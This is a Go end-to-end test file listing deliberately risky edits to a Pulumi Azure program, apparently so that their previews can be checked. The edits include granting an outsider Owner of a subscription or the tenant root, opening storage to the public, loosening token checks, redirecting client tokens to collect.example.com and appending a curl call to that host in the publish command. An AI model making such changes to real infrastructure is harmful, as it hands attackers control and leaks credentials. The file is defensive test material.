package e2e_test

import "strings"

// This file lists changes of the program whose previews are recorded. An edit
// replaces one text of one file; extra adds a statement to the program.

const (
	api         = "components/api.go"
	functionApp = "components/functionapp.go"
)

// replaced is a case that replaces a text.
func replaced(name, note, file, old, new string) previewCase {
	return previewCase{name: name, note: note, edit: []edit{{file, old, new}}}
}

// registered is a case that registers one more resource beside the API's own.
func registered(name, note, call string) previewCase {
	const last = "	api.ClientID, api.ObjectID = application.ClientId, application.ObjectId\n"
	return replaced(name, note, api, last, "	if _, err := "+call+"; err != nil {\n		return err\n	}\n"+last)
}

// extra is a case that registers one more resource in the stack. body is Go, with
// ctx and place; it uses the package of the SDK.
func extra(name, note, sdk, body string) previewCase {
	const before = "	clients := make([]*components.Client, len(stack.Clients))\n"
	source := "package components\n\nimport (\n\t" + `"` + sdk + `"` + "\n\t" + `"github.com/pulumi/pulumi/sdk/v3/go/pulumi"` + "\n)\n\nfunc Extra(ctx *pulumi.Context, place Place) error {\n\t_, err := " + body + "\n\treturn err\n}\n"
	return previewCase{name: name, note: note, edit: []edit{
		{"components/extra.go", "", source}, {"main.go", before, "	if err := components.Extra(ctx, place); err != nil {\n		return err\n	}\n" + before},
	}}
}

const authorizationSDK = "github.com/pulumi/pulumi-azure-native-sdk/authorization/v2"

// roleAssigned gives the outsider a role of Azure. scope is Go.
func roleAssigned(name, note, role, scope string, more ...string) previewCase {
	return extra(name, note, authorizationSDK, `authorization.NewRoleAssignment(ctx, "extra", &authorization.RoleAssignmentArgs{
		PrincipalId: pulumi.String("`+outsider+`"), PrincipalType: pulumi.String("ServicePrincipal"),
		RoleDefinitionId: pulumi.String("/subscriptions/" + place.SubscriptionID + "/providers/Microsoft.Authorization/roleDefinitions/`+role+`"),
		Scope: `+scope+`, `+strings.Join(more, " ")+`
	})`)
}

const (
	ownerRole       = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
	contributorRole = "b24988ac-6180-42a0-ab88-20f7382dd24c"
	blobOwnerRole   = "b7e6dc6d-f1e8-4753-8033-0f276bb0955b"

	subscription = `pulumi.String("/subscriptions/" + place.SubscriptionID)`
	group        = `pulumi.Sprintf("/subscriptions/%s/resourceGroups/%s", place.SubscriptionID, place.ResourceGroupName)`
)

func setting(name, note, old, new string) previewCase { return replaced(name, note, api, old, new) }

var programCases = []previewCase{
	registered("stranger-assigned", "a stranger gets the app role", `azuread.NewAppRoleAssignment(ctx, "extra", &azuread.AppRoleAssignmentArgs{
		AppRoleId: pulumi.String(args.Roles[0].ID()), PrincipalObjectId: pulumi.String("`+outsider+`"), ResourceObjectId: api.ServicePrincipalID})`),
	registered("stranger-without-role", "a stranger gets access without a role", `azuread.NewAppRoleAssignment(ctx, "extra", &azuread.AppRoleAssignmentArgs{
		AppRoleId: pulumi.String("00000000-0000-0000-0000-000000000000"), PrincipalObjectId: pulumi.String("`+outsider+`"), ResourceObjectId: api.ServicePrincipalID})`),
	registered("graph-role", "the API may read every application through Microsoft Graph", `azuread.NewAppRoleAssignment(ctx, "extra", &azuread.AppRoleAssignmentArgs{
		AppRoleId: pulumi.String("9a5d68dd-52b0-4cc2-bd40-abcf44ac3a30"), PrincipalObjectId: api.ServicePrincipalID, ResourceObjectId: pulumi.String("`+another+`")})`),
	registered("api-secret", "the API's registration gets a secret", `azuread.NewApplicationPassword(ctx, "extra", &azuread.ApplicationPasswordArgs{
		ApplicationId: application.ID(), DisplayName: pulumi.String("extra")})`),
	registered("api-certificate", "the API's registration gets a certificate", `azuread.NewApplicationCertificate(ctx, "extra", &azuread.ApplicationCertificateArgs{
		ApplicationId: application.ID(), Type: pulumi.String("AsymmetricX509Cert"), Value: pulumi.String("MIIB")})`),
	registered("api-federated", "the API's registration trusts another repository's branch", `azuread.NewApplicationFederatedIdentityCredential(ctx, "extra", &azuread.ApplicationFederatedIdentityCredentialArgs{
		ApplicationId: application.ID(), DisplayName: pulumi.String("extra"), Issuer: pulumi.String("https://token.actions.githubusercontent.com"),
		Subject: pulumi.String("repo:else/where:ref:refs/heads/main"), Audiences: pulumi.StringArray{pulumi.String("api://AzureADTokenExchange")}})`),
	registered("second-application", "one more app registration", `azuread.NewApplication(ctx, "extra", &azuread.ApplicationArgs{DisplayName: pulumi.String("extra")})`),
	registered("adopted-principal", "a service principal made elsewhere is adopted", `azuread.NewServicePrincipal(ctx, "extra", &azuread.ServicePrincipalArgs{
		ClientId: pulumi.String("`+another+`"), UseExisting: pulumi.Bool(true)})`),
	registered("second-tenant", "a provider for another tenant", `azuread.NewProvider(ctx, "extra", &azuread.ProviderArgs{TenantId: pulumi.String("`+another+`")})`),
	setting("sign-in-audience", "every tenant can sign in to the API", `pulumi.String("AzureADMyOrg")`, `pulumi.String("AzureADMultipleOrgs")`),
	setting("for-people", "people can hold the app role", `pulumi.StringArray{pulumi.String("Application")}`, `pulumi.StringArray{pulumi.String("Application"), pulumi.String("User")}`),
	setting("no-assignment", "the API needs no assignment", "AppRoleAssignmentRequired: pulumi.Bool(true)", "AppRoleAssignmentRequired: pulumi.Bool(false)"),
	setting("token-claims", "tokens lose the claim that tells people from applications", `pulumi.String("idtyp")`, `pulumi.String("acct")`),
	setting("token-version", "tokens are of version 1", "pulumi.Int(2)", "pulumi.Int(1)"),
	setting("asks-for-graph", "the API asks for permissions of Microsoft Graph", "		OptionalClaims: ", `		RequiredResourceAccesses: azuread.ApplicationRequiredResourceAccessArray{&azuread.ApplicationRequiredResourceAccessArgs{
			ResourceAppId: pulumi.String("00000003-0000-0000-c000-000000000000"),
			ResourceAccesses: azuread.ApplicationRequiredResourceAccessResourceAccessArray{&azuread.ApplicationRequiredResourceAccessResourceAccessArgs{
				Id: pulumi.String("1bfefb4e-e0b5-418b-a88f-73c46d2cc8e9"), Type: pulumi.String("Role")}},
		}},
		OptionalClaims: `),
	setting("needed-role", "the API needs another role of its callers", `"ORDERS_ROLE":           pulumi.String(args.Roles[0].Value)`, `"ORDERS_ROLE":           pulumi.String("Anything")`),
	setting("tenant", "tokens of another tenant count", `pulumi.String(args.Tenant.ID)`, `pulumi.String("`+another+`")`),
	setting("authority", "tokens of another authority count", `pulumi.String(args.Tenant.AuthorityHost)`, `pulumi.String("https://login.example.com")`),
	setting("audience", "tokens for another audience count", `"ORDERS_AUDIENCE":       api.Audience`, `"ORDERS_AUDIENCE":       pulumi.String("api://elsewhere")`),
	setting("allowed-clients", "only one client is admitted", "	if len(args.BlockedCallers) > 0 {", `	settings["ORDERS_ALLOWED_CLIENTS"] = pulumi.String("`+outsider+`")
	if len(args.BlockedCallers) > 0 {`),
	setting("another-setting", "the API has one more app setting", "	if len(args.BlockedCallers) > 0 {", `	settings["DEBUG"] = pulumi.String("1")
	if len(args.BlockedCallers) > 0 {`),
	setting("renamed-principal", "the API's service principal is another resource", `name+"-service-principal"`, `name+"-principal"`),
	replaced("orders-url", "clients send their tokens elsewhere", "components/client.go", "c.args.API.URL,", `pulumi.String("https://collect.example.com"),`),
	replaced("scm-password", "publishing with a password is switched on", functionApp, "&web.WebAppScmAllowedArgs{\n		ResourceGroupName: group, Name: name, Allow: pulumi.Bool(false)", "&web.WebAppScmAllowedArgs{\n		ResourceGroupName: group, Name: name, Allow: pulumi.Bool(true)"),
	replaced("ftp-password", "publishing by FTP is switched on", functionApp, "&web.WebAppFtpAllowedArgs{\n		ResourceGroupName: group, Name: name, Allow: pulumi.Bool(false)", "&web.WebAppFtpAllowedArgs{\n		ResourceGroupName: group, Name: name, Allow: pulumi.Bool(true)"),
	replaced("plain-http", "the function apps take plain http", functionApp, "pulumi.Bool(true),\n		KeyVaultReferenceIdentity", "pulumi.Bool(false),\n		KeyVaultReferenceIdentity"),
	replaced("other-identity", "the function apps can act as one more identity", functionApp, "pulumi.StringArray{b.host.ID()}", `pulumi.StringArray{b.host.ID(), pulumi.Sprintf("/subscriptions/%s/resourceGroups/other/providers/Microsoft.ManagedIdentity/userAssignedIdentities/admin", b.args.Place.SubscriptionID)}`),
	replaced("more-instances", "the function apps can scale further", functionApp, "pulumi.Int(40)", "pulumi.Int(100)"),
	replaced("identity-tags", "the hosts' identities get a tag", functionApp, "		Location:          pulumi.String(b.args.Place.Location),\n	}, b.parent)\n	return err", "		Location:          pulumi.String(b.args.Place.Location),\n		Tags:              pulumi.StringMap{\"team\": pulumi.String(\"orders\")},\n	}, b.parent)\n	return err"),
	replaced("group-tags", "the resource group gets other tags", "main.go", "tags(ctx, stack),", `pulumi.StringMap{"team": pulumi.String("orders")},`),
	replaced("shared-keys", "the storage accounts take keys", "components/storage.go", "AllowSharedKeyAccess:         pulumi.Bool(false)", "AllowSharedKeyAccess:         pulumi.Bool(true)"),
	replaced("public-blobs", "the storage accounts allow public blobs", "components/storage.go", "AllowBlobPublicAccess:        pulumi.Bool(false)", "AllowBlobPublicAccess:        pulumi.Bool(true)"),
	replaced("public-container", "anyone can read the packages", "components/storage.go", "		AccountName:       account.Name,\n	}, b.parent)", "		AccountName:       account.Name,\n		PublicAccess:      storage.PublicAccessBlob,\n	}, b.parent)"),
	replaced("logs-elsewhere", "the function apps' logs go elsewhere", "components/logs.go", "b.telemetry.workspaceID,", `pulumi.Sprintf("/subscriptions/%s/resourceGroups/other/providers/Microsoft.OperationalInsights/workspaces/theirs", b.args.Place.SubscriptionID),`),
	replaced("vault-policies", "access policies decide who reads the vaults", "components/vault.go", "EnableRbacAuthorization:   pulumi.Bool(true)", "EnableRbacAuthorization:   pulumi.Bool(false)"),
	replaced("vault-closed", "the vaults are closed to public networks", "components/vault.go", `pulumi.String("Enabled")`, `pulumi.String("Disabled")`),
	replaced("code", "the API logs another word", "functions/orders-api/handler.go", `"orders given"`, `"orders handed out"`),
	replaced("publisher", "packages are published with another command", "components/publish.go", `pulumi.String("go run ./cmd/publish")`, `pulumi.String("go run ./cmd/publish && curl https://collect.example.com")`),
	extra("command", "a command runs with the deployer's login", "github.com/pulumi/pulumi-command/sdk/go/command/local", `local.NewCommand(ctx, "extra", &local.CommandArgs{Create: pulumi.String("az role assignment list"), Delete: pulumi.String("true")})`),
	roleAssigned("owner-of-subscription", "a stranger owns the subscription", ownerRole, subscription),
	roleAssigned("contributor-of-group", "a stranger contributes to the resource group", contributorRole, group),
	roleAssigned("owner-of-management-group", "a stranger owns a management group", ownerRole, `pulumi.String("/providers/Microsoft.Management/managementGroups/all")`),
	roleAssigned("owner-of-tenant", "a stranger owns the tenant's root", ownerRole, `pulumi.String("/")`),
	roleAssigned("blob-owner", "a stranger owns the blobs of an account", blobOwnerRole, `pulumi.String("/subscriptions/" + place.SubscriptionID + "/resourceGroups/other/providers/Microsoft.Storage/storageAccounts/theirs")`),
	roleAssigned("custom-role", "a stranger gets a role of the team's own", another, subscription),
	roleAssigned("with-condition", "a stranger owns the subscription under a condition", ownerRole, subscription, `Condition: pulumi.String("@Resource[a] StringEquals 'b'"), ConditionVersion: pulumi.String("2.0"),`),
	extra("one-more-identity", "one more managed identity", "github.com/pulumi/pulumi-azure-native-sdk/managedidentity/v2", `managedidentity.NewUserAssignedIdentity(ctx, "extra", &managedidentity.UserAssignedIdentityArgs{ResourceGroupName: place.ResourceGroupName, Location: pulumi.String(place.Location)})`),
	extra("private-key", "a key pair that nothing uses", "github.com/pulumi/pulumi-tls/sdk/v5/go/tls", `tls.NewPrivateKey(ctx, "extra", &tls.PrivateKeyArgs{Algorithm: pulumi.String("RSA")})`),
	extra("unknown-component", "a component of another package", "errors", `errors.New(""), ctx.RegisterComponentResource("other:index:Thing", "extra", &struct{ pulumi.ResourceState }{})`),
}
